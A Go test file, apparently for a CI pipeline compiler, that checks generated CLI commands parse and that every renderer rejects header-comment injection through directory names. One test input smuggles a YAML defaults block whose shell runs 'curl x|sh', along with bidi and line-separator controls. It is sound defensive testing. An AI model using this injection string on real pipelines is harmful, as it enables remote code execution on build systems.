package main

import (
	"path/filepath"
	"regexp"
	"testing"

	"github.com/mlc-project/mlc/compiler"
	"github.com/mlc-project/mlc/internal/golden"
	"github.com/mlc-project/mlc/ir"
)

var envRef = regexp.MustCompile(`\$\{[A-Z_][A-Z0-9_]*\}`)

// TestGeneratedCommandsParse checks the contract between the compiler and
// the CLI: every mlc command a compiled example runs names a real command,
// with flags it knows and an argument count it accepts.
func TestGeneratedCommandsParse(t *testing.T) {
	for _, ex := range golden.Examples(t) {
		p, err := compiler.Compile(filepath.Join(golden.Root(), "examples", ex))
		if err != nil {
			t.Fatal(err)
		}
		for _, w := range p.Workflows {
			steps := append([]ir.Step{}, w.OnFailure...)
			for _, j := range w.Jobs {
				steps = append(steps, j.Steps...)
			}
			for _, st := range steps {
				if st.Kind != ir.StepMLC {
					continue
				}
				args := make([]string, len(st.Args))
				for i, a := range st.Args {
					args[i] = envRef.ReplaceAllString(a, "x")
				}
				root := newRootCmd()
				cmd, rest, err := root.Find(args)
				if err != nil || cmd == root {
					t.Errorf("%s/%s: %v: no such command (%v)", w.Name, st.ID, st.Args, err)
					continue
				}
				if err := cmd.ParseFlags(rest); err != nil {
					t.Errorf("%s/%s: mlc %v: %v", w.Name, st.ID, st.Args, err)
					continue
				}
				if err := cmd.ValidateArgs(cmd.Flags().Args()); err != nil {
					t.Errorf("%s/%s: mlc %v: %v", w.Name, st.ID, st.Args, err)
				}
			}
		}
	}
}

// A spec directory whose name ends the header comment (a line break of
// any kind) or disguises it (bidi controls) would add keys to the
// generated YAML: every target refuses it, in one shared place.
func TestEveryTargetRefusesHeaderInjection(t *testing.T) {
	p, err := compiler.Compile(filepath.Join(golden.Root(), "examples", "minimal"))
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{"ml\ndefaults: {run: {shell: \"bash -c 'curl x|sh' {0}\"}}\n#", "ml\rx", "ml\u2028x", "ml\u0085x", "ml\u202ex", "ml\x00x"} {
		p.Source = dir
		for _, name := range targetNames() {
			if _, err := renderers[name].Render(p); err == nil || !regexp.MustCompile(`header comment`).MatchString(err.Error()) {
				t.Errorf("%s rendered a pipeline from %q: %v", name, dir, err)
			}
		}
	}
}
